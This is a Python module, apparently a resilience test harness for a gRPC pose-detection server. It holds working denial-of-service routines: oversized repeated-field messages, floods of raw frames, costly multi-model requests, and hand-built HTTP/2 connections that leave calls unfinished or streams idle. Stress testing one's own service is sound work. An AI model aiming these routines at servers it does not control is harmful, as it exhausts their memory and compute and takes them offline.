"""Attacks on a server's memory and work, each for some seconds, in a process of their own."""

import itertools
import socket
import struct
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import grpc
import numpy as np
from curio_proto.v1.detector_pb2 import PIXEL_FORMAT_RGB8, Camera, DetectRequest, ModelSelector, RawImage, Region

from load.generator import MODEL, K

_DETECT, _STREAM = "/curio.v1.PoseDetector/Detect", "/curio.v1.PoseDetector/DetectStream"
_LARGE = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 4, 6, 8
_END_HEADERS, _ACK = 4, 1
_FRAME_BYTES = 16_384


def unfolding(address: str, seconds: float) -> int:
    """Messages of 30 MB that are nothing but empty elements of a repeated field; the number sent."""
    kinds = itertools.cycle([("/inference.GRPCInferenceService/ModelInfer", b"\x2a\x00"), (_DETECT, b"\x12\x00")])

    def send(channel: grpc.Channel) -> None:
        path, element = next(kinds)
        channel.unary_unary(path)(element * (15 << 20), timeout=20)

    return _repeat(address, seconds, 4, send)


def raw_frames(address: str, seconds: float, num_callers: int = 40) -> int:
    """So many callers with raw frames of 10 megapixels; the number sent."""
    raw = RawImage(format=PIXEL_FORMAT_RGB8, width=3648, height=2736, data=bytes(3648 * 2736 * 3))
    camera = Camera(camera_matrix=np.ravel(np.diag([5.7, 5.7, 1]) @ K))
    request = DetectRequest(models=[ModelSelector(name=MODEL)], camera=camera, raw=raw)
    data = request.SerializeToString()
    return _repeat(address, seconds, num_callers, lambda channel: channel.unary_unary(_DETECT)(data, timeout=20))


def much_work(address: str, seconds: float) -> int:
    """Small messages that ask for 16 models times 64 regions, with deadlines of half a second; the number sent."""
    regions = [Region(x=0, y=0, width=128, height=96)] * 64
    raw = RawImage(format=PIXEL_FORMAT_RGB8, width=128, height=96, data=bytes(128 * 96 * 3))
    camera = Camera(camera_matrix=np.ravel(np.diag([0.2, 0.2, 1]) @ K))
    request = DetectRequest(models=[ModelSelector(name=MODEL)] * 16, camera=camera, raw=raw, regions=regions)
    data = request.SerializeToString()
    return _repeat(address, seconds, 8, lambda channel: channel.unary_unary(_DETECT)(data, timeout=0.5))


def unfinished(address: str, seconds: float, num_calls: int = 160) -> int:
    """Calls that announce 31 MB, send all but the last bytes, and then nothing; the number of them that was begun."""
    end = time.monotonic() + seconds
    with ThreadPoolExecutor(num_calls) as threads:
        return sum(threads.map(lambda _: _unfinished_call(address, end), range(num_calls)))


def idle_streams(address: str, seconds: float) -> int:
    """Streams that never send a frame: as many as a server has, and again as soon as it has ended one."""
    return empty_calls(address, seconds, path=_STREAM)


def empty_calls(address: str, seconds: float, num_connections: int = 16, path: str = _DETECT) -> int:
    """Calls that never send their message, some 300 a second on so many connections; the number begun."""
    host, port = address.rsplit(":", 1)
    connections: dict[int, tuple[socket.socket, int]] = {}
    end, num_begun = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for number in range(num_connections):
            try:
                if number not in connections:
                    connections[number] = (socket.create_connection((host, int(port)), timeout=5), 1)
                    connections[number][0].sendall(opening())
                connection, stream = connections[number]
                connection.sendall(_call(stream + 2, path))
                connections[number] = (connection, stream + 2)
                num_begun += 1
            except OSError:  # the server has closed it
                connections.pop(number, None)
        time.sleep(num_connections / 300)
    return num_begun


def _repeat(address: str, seconds: float, num_callers: int, send: Callable[[grpc.Channel], None]) -> int:
    end = time.monotonic() + seconds

    def caller(_: int) -> int:
        num_sent = 0
        with grpc.insecure_channel(address, options=_LARGE) as channel:
            while time.monotonic() < end:
                num_sent += 1
                try:
                    send(channel)
                except grpc.RpcError:
                    time.sleep(0.1)
        return num_sent

    with ThreadPoolExecutor(num_callers) as threads:
        return sum(threads.map(caller, range(num_callers)))


def _unfinished_call(address: str, end: float) -> int:
    """One connection with one call after the other, each reset by the server."""
    num_begun = 0
    while time.monotonic() < end:
        num_begun += 1
        host, port = address.rsplit(":", 1)
        try:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                _Connection(connection).hang(31 << 20, end)
        except OSError:
            time.sleep(0.1)
    return num_begun


class _Connection:
    """Just as much HTTP/2 as a call needs that does not end."""

    def __init__(self, connection: socket.socket) -> None:
        self._connection = connection
        self._window = {0: 65_535, 1: 65_535}
        self._is_open = True
        self._received = b""
        connection.sendall(opening())

    def hang(self, num_bytes: int, end: float) -> None:
        """Announce a message, send it but for its last bytes, and wait until the server ends the call."""
        left = num_bytes - 100
        self._send(struct.pack(">BI", 0, num_bytes))
        self._connection.settimeout(0.2)
        while self._is_open and time.monotonic() < end:
            while left and (size := min(left, _FRAME_BYTES, *self._window.values())) > 0:
                self._send(bytes(size))
                left -= size
            self._read()

    def _send(self, data: bytes) -> None:
        self._connection.sendall(_frame(_DATA, 0, 1, data))
        for stream in self._window:
            self._window[stream] -= len(data)

    def _read(self) -> None:
        try:
            received = self._connection.recv(65_536)
        except TimeoutError:
            return
        self._is_open = bool(received)
        self._received += received
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            self._handle(kind, flags, stream, self._received[9 : 9 + length])
            self._received = self._received[9 + length :]

    def _handle(self, kind: int, flags: int, stream: int, data: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            for name, value in struct.iter_unpack(">HI", data):
                if name == 4:  # the window that a stream begins with
                    self._window[1] += value - 65_535
            self._connection.sendall(_frame(_SETTINGS, _ACK, 0, b""))
        elif kind == _PING and not flags & _ACK:
            self._connection.sendall(_frame(_PING, _ACK, 0, data))
        elif kind == _WINDOW_UPDATE:
            self._window[stream] += int.from_bytes(data, "big")
        elif stream == 1:  # an answer, or a reset
            self._is_open = False


def _frame(kind: int, flags: int, stream: int, data: bytes) -> bytes:
    return len(data).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + data


def opening(*more: tuple[bytes, bytes]) -> bytes:
    """The beginning of a connection, and of a call of Detect on it, with further headers."""
    return _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _call(1, _DETECT, *more)


def _call(stream: int, path: str, *more: tuple[bytes, bytes]) -> bytes:
    """A call without its message. Headers are literals without an index (HPACK)."""
    headers = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "attack",
        "te": "trailers", "content-type": "application/grpc",
    }  # fmt: skip
    texts = [*(tuple(text.encode() for text in pair) for pair in headers.items()), *more]
    block = b"".join(b"\x00" + b"".join(bytes([len(text)]) + text for text in pair) for pair in texts)
    return _frame(_HEADERS, _END_HEADERS, stream, block)
